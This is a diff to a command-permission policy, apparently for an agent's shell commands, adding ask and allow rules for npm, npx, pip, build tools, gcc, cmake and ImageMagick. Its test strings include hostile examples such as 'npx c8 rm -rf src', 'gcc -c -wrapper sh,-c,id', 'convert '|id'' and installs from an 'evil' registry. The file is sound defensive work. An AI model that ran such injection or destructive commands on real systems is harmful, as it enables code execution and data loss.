@@ -14,12 +14,22 @@ rule "node packages" {
 rule "node packages from elsewhere" {
   commands = ["npm", "pnpm", "yarn", "bun", "npx"]
   when {
-    flags_any = ["-g", "--global", "--registry", "--script-shell", "--unsafe-perm", "--location=global"]
+    flags_any = ["-g", "--global", "--registry", "--script-shell", "--unsafe-perm", "--location=global", "--@*", "--proxy", "--https-proxy", "--no-strict-ssl", "--strict-ssl=false", "--cafile", "--userconfig", "--globalconfig"]
   }
   action    = "ask"
   reason    = "This installs for all projects, or from another registry. Install into the project, from the registry that it is set to."
   match     = ["npm install -g evil", "npm i --registry=http://evil x", "npm i --location=global x"]
   not_match = ["npm install", "npm i -D x"]
+}
+
+rule "node packages by a short address" {
+  commands     = ["npm", "pnpm", "yarn", "bun"]
+  subcommands  = ["install", "add", "update", "remove"]
+  operands_any = ["[!@./~-]*/*", "@*/*/*", "*@*:*", "gist:*", "bitbucket:*"]
+  action       = "ask"
+  reason       = "This installs code from an address instead of the registry. Name a published version."
+  match        = ["npm i someone/repository", "npm i x@github:a/b", "yarn add a/b#main", "npm i gist:abc"]
+  not_match    = ["npm i react@18.2.0", "npm i @types/node", "npm i ./packages/a"]
 }
 
 rule "node packages by address" {
@@ -33,15 +43,16 @@ rule "node packages by address" {
 
 locals {
   # Tools that projects pin and run by npx; npx fetches one that isn't installed, so only these names go unasked.
-  node_tools = "{tsc,eslint,prettier,jest,vitest,playwright,mocha,ava,c8,nyc,tsx,ts-node,vite,webpack,rollup,esbuild,next,nuxt,astro,svelte-check,vue-tsc,biome,@biomejs/biome,turbo,nx,tailwindcss,stylelint,knip,depcheck,npm-check-updates,prisma,drizzle-kit,cypress,storybook,markdownlint,husky,lint-staged,commitlint,typedoc,swc,babel}"
+  node_tools = "{tsc,eslint,prettier,jest,vitest,playwright,mocha,ava,vite,webpack,rollup,esbuild,next,nuxt,astro,svelte-check,vue-tsc,biome,@biomejs/biome,turbo,tailwindcss,stylelint,knip,depcheck,npm-check-updates,prisma,drizzle-kit,cypress,storybook,markdownlint,husky,lint-staged,commitlint,typedoc,swc,babel}"
 }
 
 rule "node tools by exec" {
-  commands  = ["npm", "pnpm", "yarn"]
-  args      = ["exec", local.node_tools, "**"]
-  action    = "allow"
-  opaque    = "allow"
-  not_match = ["pnpm exec evil", "npm exec -c 'tsc; id'"]
+  commands = ["npm", "pnpm", "yarn"]
+  args     = ["exec", local.node_tools, "**"]
+  action   = "allow"
+  opaque   = "allow"
+  unless { flags_any = ["-p", "--package", "-c", "--call"] }
+  not_match = ["pnpm exec evil", "npm exec -c 'tsc; id'", "npm exec tsc -c id", "npm exec tsc --package=evil"]
 }
 
 rule "node tools by exec, after dashes" {
@@ -71,9 +82,89 @@ rule "node tools" {
   not_match = ["npx evil", "npx -p evil tsc", "npx -c 'tsc; id'"]
 }
 
+# These run the command, or the file, that follows.
+rule "node tools, with a command" {
+  commands = ["npx", "pnpx", "bunx"]
+  operands = ["{c8,nyc}", local.node_tools, "**"]
+  action   = "allow"
+  opaque   = "allow"
+  unless { flags_any = ["--package", "--call"] }
+  match     = ["npx c8 mocha"]
+  not_match = ["npx c8 rm -rf src", "npx nyc sh -c id"]
+}
+
+rule "node tools, with a file" {
+  commands = ["npx", "pnpx", "bunx"]
+  operands = ["{tsx,ts-node}", "*.{ts,tsx,mts,cts,js,mjs,cjs}", "**"]
+  action   = "allow"
+  opaque   = "allow"
+  unless { flags_any = ["--package", "--call"] }
+  unless { operands_any = ["/tmp/*", "/var/tmp/*", "/dev/shm/*"] }
+  match     = ["npx tsx scripts/gen.ts", "npx ts-node src/x.ts --all"]
+  not_match = ["npx tsx -e 1", "npx ts-node -e 1", "npx tsx"]
+}
+
+rule "nx" {
+  commands = ["npx", "pnpx", "bunx"]
+  operands = ["nx", "{run,run-many,affected,build,test,lint,e2e,serve,graph,format*,show,report,list,reset,sync*,typecheck,affected:*}", "**"]
+  action   = "allow"
+  opaque   = "allow"
+  unless { flags_any = ["--package", "--call"] }
+  match     = ["npx nx run-many -t build"]
+  not_match = ["npx nx exec -- rm -rf src"]
+}
+
+# A rule about what follows asks about code that stands among the arguments.
+rule "code in an argument of a build tool" {
+  commands     = ["rails", "flask", "celery", "mix", "stack", "sbt", "swift", "dotnet", "mvn", "mvnw"]
+  operands_any = ["runner", "r", "console", "c", "dbconsole", "shell", "eval", "eval *", "ghci", "repl", "script", "runghc", "runhaskell", "fsi", "cmd", "exec:*", "*exec-maven-plugin*"]
+  action       = "ask"
+  reason       = "This runs code, or a program, that stands among the arguments. Put it into a file of the project."
+  match        = ["rails runner 'x'", "mix eval x", "mvn exec:exec -Dexec.executable=id", "stack ghci"]
+  not_match    = ["rails db:migrate", "mix test", "mvn -q verify", "stack build"]
+}
+
+rule "code in an option of a build tool" {
+  commands = ["mix", "swift", "kotlinc", "ghc", "bazel"]
+  when {
+    flags_any = ["-e", "--eval", "-script", "-pgm*", "--run_under", "--bazelrc"]
+  }
+  action    = "ask"
+  reason    = "This runs code, or a program, that stands among the arguments. Put it into a file of the project."
+  match     = ["mix run -e x", "swift -e x", "bazel run --run_under=x //a"]
+  not_match = ["mix test", "bazel build //a"]
+}
+
+rule "a compiler's wrapper" {
+  commands  = ["gcc", "g++", "cc", "c++", "gcc-*", "g++-*"]
+  flags_all = ["-w", "-r", "-a", "-p", "-e"] # the letters of -wrapper
+  action    = "ask"
+  reason    = "This runs a program that stands among the arguments. Put it into a file of the project."
+  match     = ["gcc -c -wrapper sh,-c,id x.c"]
+  not_match = ["gcc -c x.c"]
+}
+
+rule "files by cmake" {
+  commands  = ["cmake"]
+  args      = ["-E", "{remove_directory,rm,remove,rename,tar,create_symlink,create_hardlink}", "**"]
+  action    = "ask"
+  reason    = "This removes or replaces files by another name. Use rm or mv, which are judged by what they name."
+  match     = ["cmake -E remove_directory src"]
+  not_match = ["cmake -E make_directory build", "cmake --build build"]
+}
+
+rule "commands of an image tool" {
+  commands     = ["convert", "magick", "mogrify"]
+  operands_any = ["|*", "*:|*", "@*", "{msl,ephemeral,script,http,https,ftp,text,caption,label}:*", "http*://*"]
+  action       = "ask"
+  reason       = "Such a name is a command, a script or an address for ImageMagick. Name plain files."
+  match        = ["convert '|id' x.png", "magick msl:x.msl y.png"]
+  not_match    = ["convert a.png b.jpg"]
+}
+
 rule "project tools" {
   commands = [
-    "tsc", "eslint", "prettier", "jest", "vitest", "mocha", "playwright", "vite", "webpack", "rollup", "esbuild", "biome", "next", "turbo", "nx", "stylelint", "ts-node", "tsx",
+    "tsc", "eslint", "prettier", "jest", "vitest", "mocha", "playwright", "vite", "webpack", "rollup", "esbuild", "biome", "next", "turbo", "nx", "stylelint",
     "pytest", "py.test", "tox", "nox", "ruff", "black", "isort", "flake8", "pylint", "mypy", "pyright", "bandit", "coverage", "pre-commit", "virtualenv",
     "uvicorn", "gunicorn", "flask", "alembic", "celery", "streamlit", "rails", "ng", "nest", "hugo", "gofmt", "goimports", "golangci-lint", "staticcheck", "govulncheck", "gopls", "dlv", "rustc", "rustfmt", "clippy-driver", "cargo-clippy", "cargo-fmt",
     "javac", "mvn", "mvnw", "gradle", "gradlew", "ant", "kotlinc", "scalac", "sbt", "dotnet", "msbuild", "swift", "swiftc", "xcodebuild",
@@ -152,8 +243,8 @@ rule "python tests and tools" {
 }
 
 rule "programs of the project" {
-  commands = ["python", "python3", "python3.*", "python2", "node", "ruby", "perl", "php", "deno", "bun"]
-  operands = ["{*.{py,js,mjs,cjs,ts,mts,rb,pl,php},artisan,bin/console}", "**"]
+  commands = ["python", "python3", "python3.*", "python2", "node", "ruby", "perl", "php", "deno", "bun", "tsx", "ts-node"]
+  operands = ["{*.{py,js,mjs,cjs,ts,tsx,mts,cts,rb,pl,php},artisan,bin/console}", "**"]
   action   = "allow"
   unless {
     flags_any = ["-m"]
@@ -163,6 +254,14 @@ rule "programs of the project" {
   }
   match     = ["python3 manage.py migrate", "node scripts/gen.mjs --all", "perl tools/x.pl"]
   not_match = ["python3 -c 'import os'", "node -e 1", "python", "python3 /tmp/x.py", "node -r ./evil.js x.js"]
+}
+
+rule "programs of the project, watched" {
+  commands  = ["tsx"]
+  operands  = ["watch", "*.{ts,tsx,mts,cts,js,mjs,cjs}", "**"]
+  action    = "allow"
+  match     = ["tsx watch src/a.ts"]
+  not_match = ["tsx watch -e 1"]
 }
 
 rule "scripts of the project" {
@@ -207,7 +306,7 @@ rule "python packages, by module" {
 rule "python packages from elsewhere" {
   commands = ["pip", "pip3", "pip3.*", "uv", "poetry", "pdm", "pipenv"]
   when {
-    flags_any = ["-i", "--index-url", "--extra-index-url", "--trusted-host", "--break-system-packages", "--target=/*", "--prefix", "--root", "-f", "--find-links", "--default-index", "--system"]
+    flags_any = ["-i", "--index-url", "--index", "--extra-index-url", "--trusted-host", "--with*", "--python", "--break-system-packages", "--target=/*", "--prefix", "--root", "-f", "--find-links", "--default-index", "--system"]
   }
   action    = "ask"
   reason    = "This installs into the system, or from another index. Install into a virtual environment, from the index that the project uses."
@@ -222,6 +321,17 @@ rule "python packages by address" {
   reason       = "This installs code from an address instead of the index. Name a published version."
   match        = ["pip install git+https://host/x", "pip install https://host/x.whl"]
   not_match    = ["pip install requests==2.31.0", "pip install 'x[extra]'"]
+}
+
+rule "python packages by an option's address" {
+  commands = ["pip", "pip3", "pip3.*", "uv", "poetry", "pdm", "pipenv"]
+  when {
+    flags_any = ["-r=*://*", "--requirement=*://*", "--requirements=*://*", "-c=*://*", "--constraint=*://*", "-e=*+*", "-e=*://*", "--editable=*+*", "--editable=*://*"]
+  }
+  action    = "ask"
+  reason    = "This installs code from an address instead of the index. Name a published version."
+  match     = ["pip install -r https://host/r.txt", "pip install -e git+https://host/x"]
+  not_match = ["pip install -r requirements.txt", "pip install -e ."]
 }
 
 rule "python packages, with uv" {
